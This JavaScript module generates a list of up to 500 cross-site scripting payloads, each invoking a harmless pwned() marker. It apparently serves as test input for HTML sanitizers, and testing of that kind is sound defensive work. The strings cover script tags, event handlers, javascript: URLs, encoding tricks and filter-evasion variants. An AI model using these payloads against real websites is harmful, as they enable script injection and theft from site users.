// Five hundred texts that would run as a script if any of them were taken for markup. Each calls pwned().

const CALL = "pwned()";

/** Elements that load, focus or animate by themselves, and what they call then. */
const ELEMENTS = [
  ...["img src=x", "image src=x", "audio src=x", "video src=x", "embed src=x", "object data=x", "iframe src=x"],
  ...["input type=image src=x", "link rel=stylesheet href=x", "script src=x", "source src=x", "track src=x"],
  ...["svg", "body", "style", "marquee", "details open", "input autofocus", "select autofocus", "textarea autofocus"],
  ...["keygen autofocus", "button autofocus", "a href=# autofocus", "div tabindex=0 autofocus", "math"],
];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart"];
/** How an attribute may stand, {0} being the call. */
const ATTRIBUTES = ["={0}", "='{0}'", '="{0}"'];

/** Whole texts, {0} being the call. */
const WHOLE = [
  "<script>{0}</script>",
  "<SCRIPT>{0}</SCRIPT>",
  "<scr<script>ipt>{0}</scr</script>ipt>",
  "<script/x>{0}</script>",
  "<script\t>{0}</script>",
  "</title><script>{0}</script>",
  "</textarea><script>{0}</script>",
  "</style><script>{0}</script>",
  "</li></ol><script>{0}</script>",
  "--><script>{0}</script>",
  "]]><script>{0}</script>",
  '"><script>{0}</script>',
  "'><script>{0}</script>",
  "<svg><script>{0}</script></svg>",
  "<svg><animate onbegin={0} attributeName=x dur=1s>",
  "<svg><set onbegin={0} attributeName=x>",
  "<math><mtext><img src=x onerror={0}></mtext></math>",
  "<template><img src=x onerror={0}></template>",
  "<noscript><p title='</noscript><img src=x onerror={0}>'>",
  "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
  "<iframe src='javascript:parent.{0}'></iframe>",
  "<a href='javascript:{0}' autofocus>press</a>",
  "<form><button formaction='javascript:{0}'>press</button></form>",
  "<object data='javascript:{0}'></object>",
  "<base href='javascript:{0}//'>",
  "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
  "javascript:{0}",
  "data:text/html,<script>{0}</script>",
  "&lt;script&gt;{0}&lt;/script&gt;",
  "&#60;img src=x onerror={0}&#62;",
  "\\u003cimg src=x onerror={0}\\u003e",
  "%3Cimg src=x onerror={0}%3E",
  "{{constructor.constructor('{0}')()}}",
  "$" + "{{0}}",
  "'-{0}-'",
  '"-{0}-"',
  "`-{0}-`",
  "\\';{0};//",
  "<!--<img src='--><img src=x onerror={0}//'>",
  "<img src=x:x onerror\n={0}>",
  "<img/src/onerror={0}>",
  "<img src=x onerror={0}//",
  "<<img src=x onerror={0}>>",
  "<x onclick={0} autofocus tabindex=1>",
  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart={0}>",
  "<style>*{background:url(javascript:{0})}</style>",
  "<dialog open onclose={0}><form method=dialog><button autofocus>",
  "<video><source onerror={0}></video>",
  "<picture><source srcset=x><img onerror={0} src=x></picture>",
  "<xmp><img src=x onerror={0}></xmp>",
];

/** @returns {string[]} */
export function payloads() {
  const built = ELEMENTS.flatMap((element) =>
    EVENTS.flatMap((event) => ATTRIBUTES.map((attribute) => `<${element} ${event}${attribute}>`)),
  );
  return [...new Set([...WHOLE, ...built])].slice(0, 500).map((text) => text.replaceAll("{0}", CALL));
}
